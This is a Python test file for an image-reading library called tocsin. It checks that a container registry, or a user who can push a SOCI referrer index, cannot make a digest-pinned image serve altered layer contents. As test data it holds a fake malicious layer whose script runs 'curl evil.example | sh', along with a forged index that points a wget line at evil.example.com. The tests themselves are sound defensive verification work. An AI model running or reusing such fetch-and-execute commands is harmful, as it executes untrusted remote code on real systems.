"""Images pinned by digest: an index that anyone may push must not choose what is read.

Layers and digests are made with ``gzip`` and ``hashlib``. The attackers are a registry, and a user
who may push a referrer.
"""

import gzip
import hashlib
import json
import random

import pytest

import tocsin
from support import tampered, ztocfile
from support.images import layer_tar
from support.registry import Registry, digest_of
from tocsin import UnsupportedError, VerificationError

OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
SOCI_V1 = "application/vnd.amazon.soci.index.v1+json"
LAYER_TYPE = "application/vnd.oci.image.layer.v1.tar+gzip"
SPAN_SIZE = 64 << 10
PLAIN_HTTP = tocsin.RegistryOptions(plain_http=True)


def bytes_of(size, seed):
    return random.Random(seed).randbytes(size)  # noqa: S311 (test data)


def padded(stream, size):
    """Return a gzip stream padded with an empty member that has an extra field."""
    extra = size - len(stream) - 22
    header = b"\x1f\x8b\x08\x04\0\0\0\0\0\x03" + extra.to_bytes(2, "little")
    return stream + header + bytes(extra) + b"\x03\0" + bytes(8)


def layer_with(script, size):
    tar = layer_tar(
        {
            "usr/filler": bytes_of(1_500_000, 1),
            "usr/bin/tool": script,
            "usr/more": bytes_of(200_000, 2),
        }
    )
    return padded(gzip.compress(tar, mtime=0), size)


SIZE = 1_750_000
HONEST = layer_with(b"#!/bin/sh\necho honest\n", SIZE)
EVIL = layer_with(b"#!/bin/sh\ncurl evil.example | sh\n", SIZE)


def publish(registry, layer_digest, layer_size, served_layer, ztoc):
    """Put an image whose manifest lists a layer, with a version 1 referrer; return its digest."""
    diff_id = "sha256:" + hashlib.sha256(b"not looked at").hexdigest()
    config = json.dumps(
        {
            "architecture": "amd64",
            "os": "linux",
            "rootfs": {"type": "layers", "diff_ids": [diff_id]},
        }
    ).encode()
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": {
                "mediaType": "application/vnd.oci.image.config.v1+json",
                "digest": digest_of(config),
                "size": len(config),
            },
            "layers": [{"mediaType": LAYER_TYPE, "digest": layer_digest, "size": layer_size}],
        }
    ).encode()
    pin = digest_of(manifest)
    index = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": {"mediaType": SOCI_V1, "digest": digest_of(b"{}"), "size": 2},
            "layers": [
                {
                    "mediaType": "application/octet-stream",
                    "digest": digest_of(ztoc),
                    "size": len(ztoc),
                    "annotations": {
                        "com.amazon.soci.image-layer-digest": layer_digest,
                        "com.amazon.soci.image-layer-mediaType": LAYER_TYPE,
                        "com.amazon.soci.span-size": str(SPAN_SIZE),
                    },
                }
            ],
            "subject": {"mediaType": OCI_MANIFEST, "digest": pin, "size": len(manifest)},
            "annotations": {"com.amazon.soci.build-tool-identifier": "AWS SOCI CLI v0.2"},
        },
        separators=(",", ":"),
    ).encode()
    entry = {
        "mediaType": OCI_MANIFEST,
        "digest": digest_of(index),
        "size": len(index),
        "artifactType": SOCI_V1,
    }
    referrers = json.dumps(
        {"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": [entry]}
    ).encode()
    repository = registry.repository("app")
    for blob in (config, ztoc, b"{}"):
        repository.blobs[digest_of(blob)] = blob
    repository.blobs[layer_digest] = served_layer
    repository.manifests[pin] = (OCI_MANIFEST, manifest)
    repository.manifests[digest_of(index)] = (OCI_MANIFEST, index)
    repository.manifests[digest_of(referrers)] = (OCI_INDEX, referrers)
    repository.tags["1"] = pin
    repository.tags["sha256-" + pin.removeprefix("sha256:")] = digest_of(referrers)
    return pin


@pytest.fixture
def registry():
    with Registry() as running:
        yield running


@pytest.fixture
def other_layer(registry):
    """A registry that serves another layer of equal size under the honest digest, with its zTOC."""
    ztoc = tocsin.build_ztoc(EVIL, span_size=SPAN_SIZE).to_bytes()
    pin = publish(registry, digest_of(HONEST), SIZE, EVIL, ztoc)
    return f"{registry.host}/app@{pin}"


@pytest.fixture
def lying_window(registry):
    """An honest registry and layer; only the referrer's zTOC has other bytes in one window."""
    script = b"#!/bin/sh\nwget https://good.example.org/install.sh\n" + bytes_of(64, 3)
    for pad in range(0, 66_000, 700):
        tar = layer_tar(
            {
                "usr/a": bytes_of(1_100_000 + pad, 4),
                "usr/share/doc/tool": script,
                "usr/b": bytes_of(9_000, 5),
                "usr/bin/tool": script,
                "usr/z": bytes_of(150_000, 6),
            }
        )
        layer = gzip.compress(tar, mtime=0)
        ztoc = tocsin.build_ztoc(layer, span_size=SPAN_SIZE)
        blob = ztoc.to_bytes()
        (span_id,) = list(ztoc.spans_for("usr/bin/tool"))[:1]
        windows = ztocfile.parse(blob).checkpoints
        at = tampered._checkpoint(blob, span_id) + 17 if span_id < len(windows) else 0
        found = blob[at : at + 32768].find(b"good.example.org") if at else -1
        if found >= 0:
            break
    lie = blob[: at + found] + b"evil.example.com" + blob[at + found + 16 :]
    pin = publish(registry, digest_of(layer), len(layer), layer, lie)
    return f"{registry.host}/app@{pin}", script


def test_pinned_when_a_referrer_is_for_another_layer_then_not_used(other_layer):
    with (
        tocsin.open(other_layer, registry=PLAIN_HTTP) as image,
        pytest.raises(VerificationError, match=digest_of(HONEST)),
    ):
        image.cat("/usr/bin/tool")


def test_pinned_when_a_referrer_lies_in_a_window_then_the_layer_is_read(lying_window):
    reference, script = lying_window
    with tocsin.open(reference, registry=PLAIN_HTTP) as image:
        assert image.cat("/usr/bin/tool") == script
        assert any("--index v1" in note for note in image.notes)


def test_pinned_when_only_bound_indexes_count_then_no_referrers_request(registry, lying_window):
    with tocsin.open(lying_window[0], registry=PLAIN_HTTP) as image:
        image.cat("/usr/bin/tool")
    assert not [request for request in registry.requests if "/referrers/" in request.path]


def test_pinned_when_v1_is_requested_then_the_referrer_is_used(lying_window):
    reference, script = lying_window
    with tocsin.open(reference, index="v1", registry=PLAIN_HTTP) as image:
        assert image.cat("/usr/bin/tool") == script.replace(
            b"good.example.org", b"evil.example.com"
        )


def test_tag_when_a_referrer_exists_then_it_is_used(registry, lying_window):
    with tocsin.open(f"{registry.host}/app:1", registry=PLAIN_HTTP) as image:
        assert [layer.index_origin for layer in image.layers] == ["v1"]


def test_v2_when_the_manifest_names_none_then_the_referrer_is_not_used(registry, lying_window):
    with tocsin.open(f"{registry.host}/app:1", index="v2", registry=PLAIN_HTTP) as image:
        assert [layer.index_origin for layer in image.layers] == ["made"]


def test_pinned_when_an_index_is_required_then_it_fails(lying_window):
    with (
        tocsin.open(lying_window[0], index_missing=False, registry=PLAIN_HTTP) as image,
        pytest.raises(UnsupportedError, match="has no ztoc"),
    ):
        image.cat("/usr/bin/tool")


def test_extract_when_all_of_another_layer_was_read_then_digest_error(other_layer, tmp_path):
    with (
        tocsin.open(other_layer, index="v1", registry=PLAIN_HTTP) as image,
        pytest.raises(VerificationError, match="describes another layer"),
    ):
        image.extract("/", tmp_path / "out")


def test_extract_when_all_of_the_layer_was_read_then_digest_matches(registry, tmp_path):
    ztoc = tocsin.build_ztoc(HONEST, span_size=SPAN_SIZE).to_bytes()
    pin = publish(registry, digest_of(HONEST), SIZE, HONEST, ztoc)
    with tocsin.open(f"{registry.host}/app@{pin}", index="v1", registry=PLAIN_HTTP) as image:
        image.extract("/", tmp_path / "out")
    assert (tmp_path / "out/usr/bin/tool").read_bytes() == b"#!/bin/sh\necho honest\n"


@pytest.mark.parametrize("index", ["v3", "sha256:12", "", "auto ", "digest"])
def test_index_when_it_is_not_a_choice_then_the_error_lists_them(index):
    with pytest.raises(tocsin.FormatError, match="expected auto, none, seek, v2, v1 or a digest"):
        tocsin.open("oci:nowhere", index=index)
